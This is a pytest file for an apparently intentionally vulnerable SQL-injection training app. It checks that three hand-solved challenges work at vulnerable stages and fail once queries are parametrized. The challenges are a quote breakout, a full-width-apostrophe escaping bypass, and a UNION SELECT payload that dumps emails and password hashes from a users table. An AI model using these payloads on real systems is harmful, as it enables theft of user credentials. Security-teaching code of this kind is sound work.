"""Chapter 2's challenges solved by hand: a quote, an escaping bypass, a UNION."""

from __future__ import annotations

from urllib.parse import urlencode

import pytest

from .helpers import login, post_form, signup, solved_by

LESSON = "sql-injection"
UNION = "zz') UNION SELECT id, email, password_hash, created_at, full_name FROM users ORDER BY 1 --"


def _search(client, q: str):
    return client.get("/listings/?" + urlencode({"q": q}))


def _seller(app):
    seller = app.test_client()
    signup(seller, "Sal Seller", "seller@example.com")
    assert login(seller, "seller@example.com").status_code == 302
    return seller


@pytest.mark.parametrize(("stage", "solvable"), [("concat", True), ("quote-escape", False)])
def test_quote_breakout_by_hand(client, set_stage, stage, solvable):
    set_stage(LESSON, stage)
    assert _search(client, "Bobs bike").status_code == 200
    assert solved_by(client, LESSON, "quote-breakout") is None  # ordinary search
    reply = _search(client, "Bob's bike")
    assert (reply.status_code == 500) is solvable
    assert solved_by(client, LESSON, "quote-breakout") == ("learner" if solvable else None)


@pytest.mark.parametrize(("stage", "solvable"), [("quote-escape", True), ("parametrized", False)])
def test_escape_bypass_by_hand(app, client, set_stage, stage, solvable):
    set_stage(LESSON, stage)
    seller = _seller(app)
    ordinary = {"title": "Bob's bike", "description": "It's red \\ and fast."}
    assert post_form(seller, "/listings/create", ordinary).status_code == 302
    assert solved_by(client, LESSON, "escape-bypass") is None
    # A full-width apostrophe that the normalisation after escaping turns into a quote:
    # the rest of the title becomes SQL, and the description column gets the version.
    for function in ("sqlite_version()", "version()"):
        title = f"Bypass\uff07, {function})--"
        post_form(seller, "/listings/create", {"title": title, "description": "probe"})
    assert solved_by(client, LESSON, "escape-bypass") == ("learner" if solvable else None)


@pytest.mark.parametrize(("stage", "solvable"), [("concat", True), ("parametrized", False)])
def test_union_dump_by_hand(client, set_stage, stage, solvable):
    set_stage(LESSON, stage)
    page = _search(client, UNION).get_data(as_text=True)
    assert ("alice@example.com" in page) is solvable
    assert solved_by(client, LESSON, "union-dump") == ("learner" if solvable else None)
